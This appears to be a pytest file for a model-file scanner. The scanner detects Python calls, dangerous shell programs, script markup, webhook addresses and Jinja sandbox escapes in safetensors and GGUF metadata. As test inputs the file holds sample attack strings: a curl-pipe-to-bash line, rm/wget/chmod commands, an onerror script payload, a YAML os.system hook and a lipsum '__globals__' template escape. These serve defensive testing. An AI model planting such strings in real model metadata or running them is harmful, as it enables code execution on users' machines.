"""Test the analysis of free text in metadata: code, commands, markup, addresses and documents."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile

import pytest
from builders.gguf_files import build_gguf_model
from support.cases import check_each
from support.work import count_work, find_growth_fault

from modelaudit.formats.metadata_text import MetadataEntry, collect_mentions
from modelaudit.languages.code_text import find_dangerous_programs, find_python_calls
from modelaudit.model.outline import Outline
from modelaudit.model.structure import UnreadReason
from modelaudit.wire.base import LimitReachedError


def list_names(key: str, text: str) -> set[tuple[str, str]]:
    """Return the use and name of each mention in one entry."""
    return {(mention.use, mention.name) for mention in collect_mentions([MetadataEntry(key, text.encode())])[0]}


@check_each(
    "text, expected",
    [
        ("import os; os.system('true')", "os.system"),
        ("import os as o\no.system('true')", "os.system"),
        ("from subprocess import run as r\nr(['true'])", "subprocess.run"),
        ("__import__('os').system('true')", "os.system"),
        ("exec('1')", "builtins.exec"),
        ("  def f():\n    eval('1')\n".strip(), "builtins.eval"),
        ("os.system('true')", "os.system"),
    ],
)
def test_calls_in_a_metadata_text_that_is_a_python_program_are_found(text, expected):
    assert expected in set(find_python_calls(text))


@check_each(
    "text",
    [
        "AdamW", "Adafactor(scale_parameter=False)", "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.01)",
        "a comment (second try); use at 0.8", "Use os.system('x') with care.", "import os", "exec(\0)", "open the file (a) and read it", "1girl, (smile:1.2)",
        "train(lr=1e-4)",
    ],
)  # fmt: skip
def test_no_calls_are_found_in_prose_or_for_names_of_no_known_module(text):
    assert list(find_python_calls(text)) == []


@check_each(
    "text",
    [
        "((((" * 100 + "a(", "']' * 3\n" * 100 + "(" * 70 + "exec('1')" + ")" * 70, "not " * 5000 + "f(x)",
        "f(" * 3000 + ")" * 3000, "-" * 40_000 + "f(x)", "f(" + "1" * 300_000 + ")",
        "".join(f"os.a{n}()\n" for n in range(201)),
    ],
)  # fmt: skip
def test_text_with_calls_that_is_too_long_too_deep_or_calls_too_many_names_reaches_a_bound(text):
    with pytest.raises(LimitReachedError):
        list(find_python_calls(text))
    _, absences = collect_mentions([MetadataEntry("note", text.encode()[:200_000])])
    assert len(text) > 200_000 or [each.reason for each in absences] == [UnreadReason.LIMIT]


def test_names_that_a_text_calls_are_found_up_to_the_bound_on_their_number():
    text = "os.system('1')\n" * 1000 + "".join(f"os.a{n}()\n" for n in range(199))
    assert len(list(find_python_calls(text))) == 200
    assert "os.a199" not in {name for _, name in list_names("a", text + "os.a199()")}


def test_metadata_text_that_is_nested_too_deep_for_its_search_leaves_the_file_partly_examined(read_bytes):
    text = "(" * 70 + "exec('1')" + ")" * 70
    header = json.dumps({"__metadata__": {"note": text}}).encode()
    reading = read_bytes(struct.pack("<Q", len(header)) + header, "m.safetensors")
    assert reading.reasons() == {UnreadReason.LIMIT}


def test_operand_behind_many_words_of_a_dangerous_program_is_found():
    assert list(find_dangerous_programs("env " * 1000 + "curl " + "x " * 1000 + "-o a")) == ["curl"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("rm -rf /tmp/x && wget http://example.invalid/a", {"rm", "wget"}),
        ("chmod 777 /tmp/x", {"chmod"}),
        ("curl -s http://example.invalid | bash", {"curl", "bash"}),
        ("sudo bash -c 'true'", {"bash"}),
        ("A=1 python -c 'pass'", {"python"}),
        ("cd /tmp; rm *", {"rm"}),
        ("cat x |\n bash", {"bash"}),
        ("kill -9 1; chmod u+x y", {"kill", "chmod"}),
    ],
)
def test_dangerous_programs_in_a_metadata_text_that_is_a_shell_line_are_found(text, expected):
    assert set(find_dangerous_programs(text)) == expected


@check_each(
    "text",
    [
        "curl is a tool", "python train.py --lr 1e-4", "rm all (the) files", "time travel / space", "cat; dog",
        "accelerate launch train.py -x", "node", "kill your darlings", "kill 1st", "kill 2, then 3", "", "|||", "eval at 0.8", "base64",
        "We run rm -rf /tmp before training.", "git clone https://example.invalid/x && pip install -r requirements.txt",
    ],
)  # fmt: skip
def test_no_dangerous_program_is_found_in_prose_or_in_ordinary_setup_and_training_commands(text):
    assert list(find_dangerous_programs(text)) == []


def test_metadata_markup_is_mentioned_only_if_it_can_run_a_script():
    assert ("markup", "script") in list_names("note", "hello <SCRIPT>void 0</SCRIPT>")
    assert ("markup", "event-handler") in list_names("note", '<img src=x onerror="void 0">')
    assert ("markup", "javascript") in list_names("note", "javascript:void(0)")
    formatting = "<p>Use <b>0.8</b>, a <a href='https://example.invalid'>link</a>; tokens <s> and <unk></p>"
    assert list_names("note", formatting) == set()


def test_address_in_metadata_is_mentioned_only_under_a_callback_or_webhook_key():
    assert list_names("callback_url", "https://example.invalid/x") == {("address", "callback")}
    assert list_names("training.webhook", "https://example.invalid/x") == {("address", "webhook")}
    assert list_names("license_url", "https://example.invalid/x") == set()
    assert list_names("callbacks", "EarlyStopping") == set()


def test_json_object_and_yaml_in_safetensors_metadata_are_read_as_nested_documents(read_bytes):
    metadata = {
        "config": '{"a": {"auto_map": 1}}',
        "list": "[1]",
        "words": "a {b}",
        "hook": "x: !!python/name:os.system ''",
    }
    header = json.dumps({"__metadata__": metadata}).encode()
    reading = read_bytes(struct.pack("<Q", len(header)) + header, "m.safetensors")
    # A list without settings and a text with braces are no documents.
    assert {path for path in reading.formats if "!" in path} == {
        "m.safetensors!metadata!config", "m.safetensors!metadata!hook.yaml",
    }  # fmt: skip


def test_search_for_calls_in_one_long_word_takes_linear_work():
    def search(length: int) -> None:
        assert not list(find_python_calls("A" * length))

    assert find_growth_fault(lambda length: count_work(lambda: search(length)), 1000) == ""


def test_python_program_after_many_leading_blanks_is_found_in_a_metadata_text():
    assert ("metadata-code", "os.system") in list_names("a", " " * 300_000 + "import os; os.system('true')")


def test_documents_over_the_bound_in_safetensors_metadata_are_reported_as_unread(read_bytes, monkeypatch):
    monkeypatch.setattr("modelaudit.formats.metadata_text._MAX_DOCUMENTS", 2)
    for count in (2, 3):
        header = json.dumps({"__metadata__": {f"k{n}": '{"a": 1}' for n in range(count)}}).encode()
        reading = read_bytes(struct.pack("<Q", len(header)) + header, "m.safetensors")
        assert len([path for path in reading.formats if "!" in path]) == 2
        assert (UnreadReason.LIMIT in reading.reasons()) == (count > 2)


def test_script_element_in_metadata_is_mentioned_even_after_many_other_elements():
    assert list_names("a", "<iframe>" * 200 + "<script>") == {("markup", "iframe"), ("markup", "script")}


TEMPLATE = "{{ lipsum['__glo' ~ 'bals__'] }}"


def list_template_uses(reading) -> set[str]:
    """Return the uses of the mentions of templates in a file."""
    return {mention.use for outline in reading.of(Outline) if outline.format == "jinja" for mention in outline.mentions}


@check_each("key", ["general.description", "anything", "tokenizer.chat_template.extra"])
def test_template_that_escapes_its_sandbox_is_found_under_every_key_of_metadata(key, read_bytes):
    header = json.dumps({"__metadata__": {key: TEMPLATE}}).encode()
    safetensors = read_bytes(struct.pack("<Q", len(header)) + header, "m.safetensors")
    gguf = read_bytes(build_gguf_model().add_text(key, TEMPLATE).build(), "m.gguf")
    assert "private-attribute" in list_template_uses(safetensors)
    assert "private-attribute" in list_template_uses(gguf)


def test_braces_in_the_metadata_of_an_ordinary_file_are_not_read_as_an_attack(read_bytes):
    gguf = read_bytes(
        build_gguf_model().add_text("general.description", "Use {{ name }} and {% if a %}b{% endif %}.").build(), "m"
    )
    assert list_template_uses(gguf) == set()


def build_zip(name: str, data: bytes) -> bytes:
    """Return a zip archive with one member."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(name, data)
    return stream.getvalue()


@check_each(
    "path, data, may_be_program",
    [
        ("tool.unlisted", b"run(1)\n", True),
        ("a.zip", build_zip("tool.unlisted", b"run(1)\n"), True),
        ("tool.unlisted.gz", gzip.compress(b"run(1)\n" * 20), True),
        ("a.zip", b"run(1)\n" * 9 + build_zip("a.txt", b"a"), False),
    ],
)
def test_only_text_with_the_name_of_a_file_may_be_a_program_that_no_table_lists(path, data, may_be_program, read_bytes):
    assert (UnreadReason.PROGRAM in read_bytes(data, path).reasons()) == may_be_program
